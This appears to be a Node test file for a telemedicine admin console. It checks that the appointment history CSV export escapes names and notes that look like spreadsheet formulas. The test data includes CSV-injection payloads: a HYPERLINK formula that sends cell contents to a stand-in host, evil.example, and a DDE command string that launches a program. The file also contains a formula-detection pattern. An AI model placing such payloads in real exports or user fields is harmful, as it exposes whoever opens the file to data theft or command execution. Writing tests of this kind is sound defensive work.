import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import simpleRestProvider from 'ra-data-simple-rest';
import { fetchUtils, type DataProvider } from 'ra-core';
import { findUserIdByEmail } from '@telemed/command';
import { indiaDate, startTestApp, type TestApp, type TestUser } from '../support/test-app';
import { freePort } from '../support/processes';

/** RFC 4180 cells: quoted fields with doubled quotes and line breaks inside, rows ending in CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  assert.equal(cell, '', 'the CSV ends with a line break');
  return rows;
}

const FORMULA = /^[\s\u3000]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/**
 * The appointment history's CSV (issue 15) opened in a spreadsheet: a patient who names themselves like a formula and
 * writes a note full of commas, quotes, a line break and '=HYPERLINK(…)' gets every cell back as the text it was, and
 * no cell a spreadsheet would run.
 */
describe("the console's history CSV is text, never a spreadsheet formula (CSV injection)", () => {
  let t: TestApp;
  let base: string;
  let admin: TestUser;
  let patient: TestUser;
  let appointmentId: string;
  const NOTE = 'Headache, fever; he said "ouch"\n=HYPERLINK("http://evil.example/?x="&A1,"click")';

  function providerFor(user: { token: string }): DataProvider {
    const httpClient = (url: string, options: fetchUtils.Options = {}) =>
      fetchUtils.fetchJson(url, { ...options, headers: new Headers({ Authorization: `Bearer ${user.token}` }) });
    return simpleRestProvider(`${base}/api/v1/admin`, httpClient);
  }

  before(async () => {
    const port = await freePort();
    t = await startTestApp();
    await t.app.listen(port, '127.0.0.1');
    base = `http://127.0.0.1:${port}`;
    const operator = await t.createUser('admin', { name: 'Operator' });
    await providerFor(operator).create('institutions', {
      data: {
        name: 'Lotus Clinic',
        address: '3 Lake Rd',
        phone: '+91 80 4000 7777',
        email: 'desk@lotus.in',
        staff: [
          { name: 'Lata Rao', email: 'lata@lotus.in', phone: '+91 90000 11111', account_type: 'ADMIN' },
          { name: 'Ananya Sharma', email: 'ananya@lotus.in', phone: '+91 90000 22222', account_type: 'DOCTOR' },
        ],
      },
    });
    const accountOf = async (email: string, accountType: 'patient' | 'doctor'): Promise<TestUser> => {
      const user_id = (await findUserIdByEmail(t.app.eventStore, email))!;
      const token = await t.app.tokens.issue({ user_id, account_type: accountType });
      return { user_id, token, auth: { Authorization: `Bearer ${token}` } };
    };
    admin = await accountOf('lata@lotus.in', 'patient');
    const doctor = await accountOf('ananya@lotus.in', 'doctor');
    patient = await t.createUser('patient', { name: 'Meera Iyer' });
    const [slot] = await t.openSlots(doctor, [{ date: indiaDate(2), time: '10:30' }]);
    appointmentId = (await t.http.post('/api/v1/appointments').set(patient.auth).send({ slot_id: slot, notes: NOTE }).expect(201)).body.appointment_id;
    await t.http.post(`/api/v1/appointments/${appointmentId}/approve`).set(doctor.auth).expect(200);
  });
  after(() => t.close());

  for (const name of ["=cmd|' /C calc'!A0", '+SUM(1,2)', '@SUM(A1)', '-2+3', '＝1+1']) {
    it(`a patient named ${JSON.stringify(name)}: the name is text in the CSV, the note keeps its commas, quotes and line break`, async () => {
      await t.http.put('/api/v1/users/me').set(patient.auth).send({ name }).expect(200);
      await t.settle();
      const res = await fetch(`${base}/api/v1/admin/appointments/${appointmentId}/history.csv`, { headers: admin.auth });
      assert.equal(res.status, 200);
      const rows = parseCsv(await res.text());
      assert.deepEqual(rows[0], ['time', 'actor', 'role', 'event', 'description', 'correlation_id', 'event_id']);
      const requested = rows.find((r) => r[3] === 'AppointmentRequested');
      assert.ok(requested, rows.map((r) => r[3]).join(' | '));
      assert.equal(requested[1], `'${name}`, 'the name, with the apostrophe that makes a spreadsheet keep it as text');
      assert.ok(requested[4]!.endsWith(`— reason: ${NOTE}`), requested[4]);
      for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, FORMULA, `a cell a spreadsheet would run: ${cell}`);
    });
  }

  it("the console's lists answer pages of up to 100 records (the Export's page) and refuse larger ones with a message", async () => {
    const lata = providerFor(admin);
    const page = await lata.getList('appointments', { pagination: { page: 1, perPage: 100 }, sort: { field: 'start', order: 'ASC' }, filter: {} });
    assert.deepEqual(page.data.map((a) => a.id), [appointmentId]);
    await assert.rejects(
      lata.getList('appointments', { pagination: { page: 1, perPage: 1000 }, sort: { field: 'start', order: 'ASC' }, filter: {} }),
      (e: { status: number; message: string }) => e.status === 422 && /At most 100 records a page/.test(e.message),
    );
  });
});
